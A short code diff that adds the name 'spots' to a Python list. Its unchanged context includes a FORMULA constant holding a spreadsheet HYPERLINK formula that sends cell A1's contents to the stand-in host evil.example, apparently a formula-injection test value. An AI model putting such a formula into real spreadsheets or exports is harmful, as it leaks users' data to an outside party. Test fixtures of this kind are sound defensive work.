@@ -34,6 +34,7 @@ NAMES = [
     "populations",
     "anchors",
     "collector",
+    "spots",
 ]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
